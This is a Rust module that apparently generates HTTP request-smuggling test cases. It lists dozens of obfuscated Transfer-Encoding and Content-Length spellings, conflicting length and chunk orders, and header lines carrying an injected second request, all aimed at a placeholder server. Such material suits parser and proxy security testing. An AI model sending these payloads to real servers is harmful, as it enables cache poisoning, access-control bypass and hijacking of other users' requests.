//! Fields of the head: `Transfer-Encoding` and `Content-Length` in every spelling, and those around them.

use crate::case::{as_chunk, post, smuggled};

/// Spellings of a field's name, of which a lenient server may read each as the field itself.
fn names(name: &str) -> Vec<String> {
    let (first, second) = name.split_once('-').unwrap_or((name, ""));
    [
        format!("{name}:"),
        format!("{}:", name.to_ascii_lowercase()),
        format!("{}:", name.to_ascii_uppercase()),
        format!("{name} :"),
        format!("{name}\t:"),
        format!("{name}\r:"),
        format!("{name}\0:"),
        format!("{name}\x0b:"),
        format!("{name}::"),
        format!(" {name}:"),
        format!("\t{name}:"),
        format!("\x0b{name}:"),
        format!("\0{name}:"),
        format!("\r{name}:"),
        format!("\u{a0}{name}:"),
        format!("\"{name}\":"),
        format!("{first}_{second}:"),
        format!("{first} {second}:"),
        format!("{first}--{second}:"),
        format!("{first}.{second}:"),
        format!("{first}\u{ad}{second}:"),
        format!("{first}-\r\n {second}:"),
        format!("X-{name}:"),
        format!("X: y\n{name}:"),
        format!("X: y\r{name}:"),
        format!("X: y\r\r\n{name}:"),
        format!("X: y\0{name}:"),
        format!("X\r\n{name}:"),
        format!(": y\r\n{name}:"),
        format!("X: {}\r\n{name}:", "y".repeat(5000)),
        format!("{name}{}:", " ".repeat(300)),
    ]
    .into()
}

/// Values that a lenient server may read as `chunked`.
const CODINGS: &[&str] = &[
    "chunked",
    "  chunked  ",
    "\tchunked",
    " chunked\t",
    " Chunked",
    " CHUNKED",
    " chunKed",
    " \x0bchunked",
    " \x0cchunked",
    " \0chunked",
    " chunked\0",
    " chunked\x0b",
    " chunked\x7f",
    " \u{a0}chunked",
    " \u{ff}chunked",
    " \"chunked\"",
    " 'chunked'",
    " chunked;x=y",
    " chunked; q=0",
    " chunked,",
    " ,chunked",
    " , chunked",
    " chunked, chunked",
    " chunked, identity",
    " identity, chunked",
    " gzip, chunked",
    " chunked, gzip",
    " chunked gzip",
    " x chunked",
    " xchunked",
    " chunkedx",
    " chun ked",
    " identity",
    " gzip",
    " cow",
    "",
    " ",
    " chunked\r",
    " \rchunked",
    " \nchunked",
    " chunked\n",
    "\r\n chunked",
    "\r\n\tchunked",
    "\n chunked",
    " \r\n\r\n chunked",
    " chunked\r\n , identity",
    " chunked\r\nTransfer-Encoding: chunked",
    " chunked\r\nTransfer-Encoding: identity",
    " identity\r\nTransfer-Encoding: chunked",
    " cow\r\ntransfer-encoding: chunked",
    " chunked\r\nTransfer-Encoding:",
    "\r\nTransfer-Encoding: chunked",
];

/// Lines about the coding: each alone around a chunk with the hidden request, and with a length that says otherwise, in
/// both orders.
pub(crate) fn encodings() -> Vec<(String, String)> {
    let names = names("Transfer-Encoding")
        .into_iter()
        .map(|name| format!("{name} chunked"));
    let codings = CODINGS.iter().map(|coding| format!("Transfer-Encoding:{coding}"));
    let long = format!("Transfer-Encoding:{}chunked", " ".repeat(300));
    // The first of either list is the same line.
    let lines = names.chain(codings).chain([long]);
    let (smuggled, chunk) = (smuggled(), as_chunk());
    let whole = smuggled.len() + 5;
    let size = chunk.find('\n').map_or(0, |end| end + 1);
    let mut all = Vec::new();
    for line in lines {
        let forms = [
            ("alone", format!("{line}\r\n"), chunk.clone()),
            (
                "after a length of all",
                format!("Content-Length: {whole}\r\n{line}\r\n"),
                format!("0\r\n\r\n{smuggled}"),
            ),
            (
                "before a length of all",
                format!("{line}\r\nContent-Length: {whole}\r\n"),
                format!("0\r\n\r\n{smuggled}"),
            ),
            (
                "with a length of the first line",
                format!("{line}\r\nContent-Length: {size}\r\n"),
                chunk.clone(),
            ),
        ];
        for (form, fields, rest) in forms {
            all.push((format!("{line:.80?} {form}"), post(&fields, &rest)));
        }
    }
    all
}

/// Lines about the length of a body that is the hidden request.
pub(crate) fn lengths() -> Vec<(String, String)> {
    let smuggled = smuggled();
    let n = smuggled.len();
    let names = names("Content-Length")
        .into_iter()
        .skip(1)
        .map(|name| format!("{name} {n}"));
    let values = [
        format!("{n}"),
        format!("\t{n}"),
        format!(" {n} "),
        format!(" {n}\t"),
        format!(" +{n}"),
        format!(" -{n}"),
        format!(" 0{n}"),
        format!(" {n:020}"),
        format!(" {n:0300}"),
        format!(" 0x{n:x}"),
        format!(" 0{n:o}"),
        format!(" {n:x}h"),
        format!(" {n}.0"),
        format!(" {n}e0"),
        format!(" {n},"),
        format!(" ,{n}"),
        format!(" {n},{n}"),
        format!(" {n}, {n}"),
        format!(" 0,{n}"),
        format!(" {n},0"),
        format!(" {n};x"),
        format!(" {n} x"),
        format!(" {n} {n}"),
        format!(" {n}_"),
        format!(" {}_{}", n / 10, n % 10),
        format!(" \"{n}\""),
        format!(" {n}\0"),
        format!(" \0{n}"),
        format!(" \x0b{n}"),
        format!(" {n}\x0c"),
        format!(" \u{a0}{n}"),
        format!(" \u{b2}{n}"),
        format!(" {n}\r"),
        format!(" \r{n}"),
        format!(" {n}\n"),
        format!(" \n{n}"),
        format!("\r\n {n}"),
        format!("\n {n}"),
        format!(" {n}\r\n 0"),
        format!(" {}", (1_u128 << 64) + n as u128),
        format!(" {}", (1_u64 << 32) + n as u64),
        format!(" {}", u64::MAX),
        format!(" {}", i64::MAX),
        " ".to_owned(),
        " -0".to_owned(),
        " -1".to_owned(),
        " 0x0".to_owned(),
        format!("{}{n}", " ".repeat(300)),
        format!(" {n}\r\nContent-Length: {n}"),
        format!(" {n}\r\nContent-Length: 0"),
        format!(" 0\r\nContent-Length: {n}"),
        format!(" 0\r\ncontent-length: {n}"),
        format!(" {n}\r\nX: y\r\nContent-Length: {n}\r\nContent-Length: 0"),
        format!(" {n}\r\nContent-Length: 0{n}"),
        format!(" {n}\r\nContent-Length:"),
        format!("\r\nContent-Length: {n}"),
        format!(" {n}\r\nContent_Length: 0"),
        format!(" {n}\r\nContent-Length : 0"),
        format!(" {n}\r\n Content-Length: 0"),
        format!(" {n}\r\nX: y\nContent-Length: 0"),
        format!(" {n}\r\nX: y\rContent-Length: 0"),
    ];
    let values = values.into_iter().map(|value| format!("Content-Length:{value}"));
    names
        .chain(values)
        .map(|line| (format!("{line:.80?}"), post(&format!("{line}\r\n"), &smuggled)))
        .collect()
}

/// Fields that change how a connection is used, whose a request is, or what comes first; before a body with the hidden request.
const OTHERS: &[&str] = &[
    "Connection: Content-Length",
    "Connection: Transfer-Encoding",
    "Connection: close, Content-Length, Host",
    "Connection: close\r\nConnection: keep-alive",
    "Connection: Host",
    "Proxy-Connection: keep-alive",
    "Keep-Alive: timeout=1000",
    "TE: trailers, chunked",
    "TE: chunked\r\nConnection: TE",
    "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
    "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
    "Upgrade: websocket",
    "Expect: 100-continue",
    "expect: 100-Continue",
    "Expect: 100-continue, x",
    "Expect: x 100-continue",
    "Expect: 100-continue\r\nExpect: 100-continue",
    "Expect : 100-continue",
    "Expect:\r\n 100-continue",
    "Expect: 200-ok",
    "Expect:",
    "Host: server",
    "Host: other",
    "Host:",
    "Host : other",
    " Host: other",
    "X-Forwarded-Host: other\r\nX-Original-URL: /smuggled/0000\r\nX-Rewrite-URL: /smuggled/0000",
    "X-HTTP-Method-Override: DELETE",
    "Content-Encoding: gzip",
    "Trailer: Content-Length, Host",
    "no colon",
    ": no name",
    "X Y: z",
    "X(y): z",
    "X: a\0b",
    "X: a\rb",
    "X: a\nb",
    "X: a\r\n folded",
    "X: a\r\n\tfolded: b",
    "X: \u{e9}\u{ff}",
    "\u{e9}: x",
    "X: a\rGET /smuggled/0000 HTTP/1.1\rHost: server\r\r",
    "X: a\n\nGET /smuggled/0000 HTTP/1.1\nHost: server\n\n",
    "X: a\r\n\nGET /smuggled/0000 HTTP/1.1\r\nHost: server\r\n",
    "X: a\n\r\nGET /smuggled/0000 HTTP/1.1\r\nHost: server\r\n",
    "X: a\r\n\rGET /smuggled/0000 HTTP/1.1\r\nHost: server\r\n",
];

/// Each with a length, with chunks, and with neither, where nothing tells a body.
pub(crate) fn others() -> Vec<(String, String)> {
    let (smuggled, chunk) = (smuggled(), as_chunk());
    let n = smuggled.len();
    let mut all = Vec::new();
    for line in OTHERS {
        let forms = [
            (
                "with a length",
                format!("{line}\r\nContent-Length: {n}\r\n"),
                &*smuggled,
            ),
            (
                "with chunks",
                format!("{line}\r\nTransfer-Encoding: chunked\r\n"),
                &*chunk,
            ),
            ("without a body", format!("{line}\r\nContent-Length: 0\r\n"), ""),
        ];
        for (form, fields, rest) in forms {
            all.push((format!("{line:.80?} {form}"), post(&fields, rest)));
        }
    }
    all
}
